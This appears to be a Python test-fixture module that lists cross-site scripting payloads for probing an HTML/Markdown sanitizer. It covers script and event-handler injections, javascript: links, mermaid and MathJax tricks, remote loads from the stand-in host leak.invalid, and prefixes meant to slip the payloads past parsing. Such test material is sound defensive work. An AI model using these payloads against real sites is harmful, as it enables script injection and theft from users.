"""HTML that would run a script or ask for a page, and what Markdown might let it slip behind.

Whatever runs adds to ``top.ran``; whatever is loaded comes from the host LEAK, which is nowhere.
"""

LEAK = "leak.invalid"
RUNS = "top.ran=(top.ran||0)+1"

LINE_ENDS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
SPACES = [" ", "\t", " \t", "    ", "\xa0", "\u3000", "\ufeff", "\u200b"]
MARKDOWN = [
    "text\n",
    "text\n\n",
    "    code\n",
    "    code\n\n\n",
    "```\n```\n",
    "~~~\n~~~\n\n",
    "    ```\n",
    "</code></pre>",
    "</div></div>\n\n",
    "<!-- -->",
    "-->\n",
    "> ",
    "- ",
    "1. \n",
    "# ",
    "***\n",
    "a\n===\n",
    "|a|\n|-|\n|",
    "[a]: b\n",
    "$",
    "$$\n",
    "\\\\[",
    "\\\\begin{a} $$ ",
    "\\begin{a}\n\\end{a}",
    "a\n: ",
    "[ ] ",
    "* [ ] a\n\n  ",
]
PREFIXES = ["", *LINE_ENDS, *SPACES, *MARKDOWN, *CONTROLS, *(one + "\n" for one in CONTROLS)]
PREFIXES = list(dict.fromkeys(PREFIXES))
BROWSER_PREFIXES = ["", *LINE_ENDS, "\0", "\x0b\n", "\n\x85\n", "a\u2028\n", "```\n```\n", "-->\n"]

PAYLOADS = [
    f"<script>{RUNS}</script>",
    f"<script src=https://{LEAK}/a.js></script>",
    f"<img src=https://{LEAK}/a.png onerror={RUNS}>",
    f"<svg onload={RUNS}></svg>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    f"<iframe src=https://{LEAK}/a.html></iframe>",
    f"<style>@import 'https://{LEAK}/a.css';</style>",
    f"<link rel=stylesheet href=https://{LEAK}/b.css>",
    f"<meta http-equiv=refresh content='0;url=https://{LEAK}/'>",
    f"<details open ontoggle={RUNS}>a</details>",
    f"<input autofocus onfocus={RUNS}>",
    f"<!-- --><script>{RUNS}</script>",
    f"--><script>{RUNS}</script>",
    f"```\n\n<script>{RUNS}</script>",
    f"</code></pre><script>{RUNS}</script>",
    f"</textarea></title></style></script><script>{RUNS}</script>",
    f"[a](javascript:{RUNS})",
    f"[a][b]\n\n[b]: javascript:{RUNS}",
    f"<javascript:{RUNS}>",
    f"<a href=javascript:{RUNS}>a</a>",
    f"![a](https://{LEAK}/b.png)",
    f"```mermaid\n<img src=x onerror={RUNS}>\n```",
    f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUNS}"\n```',
    f"[^a]\n\n[^a]: <script>{RUNS}</script>",
    f"`<https://{LEAK}/a>` ![a][b]\n\n[b]: https://{LEAK}/c.png",
    f"$\\href{{javascript:{RUNS}}}{{a}}$",
    f"$$\\require{{html}}\\style{{x}}{{<img src=x onerror={RUNS}>}}$$",
    f"\\begin{{a}}<img src=x onerror={RUNS}>\\unicode{{x3c}}\\end{{a}}",
    f"$a <img src=https://{LEAK}/d.png> b$",
    f"<pre><img src=x onerror={RUNS}></pre>",
    f"<?x?><script>{RUNS}</script>",
    f"<!X><script>{RUNS}</script>",
    f"<![CDATA[><script>{RUNS}</script>]]>",
    f"<x-y><img src=x onerror={RUNS}></x-y>",
    f"<p style='background:url(https://{LEAK}/e.png)'>a</p>",
    f"<video poster=https://{LEAK}/f.png></video>",
    f"<object data=https://{LEAK}/a.svg></object>",
    f"<svg><a xlink:href=javascript:{RUNS}><text>a</text></a></svg>",
    f"<form action=javascript:{RUNS}><button>a</button></form>",
    f"<script type=text/x-mathjax-config>{RUNS}</script><script>{RUNS}</script>",
]
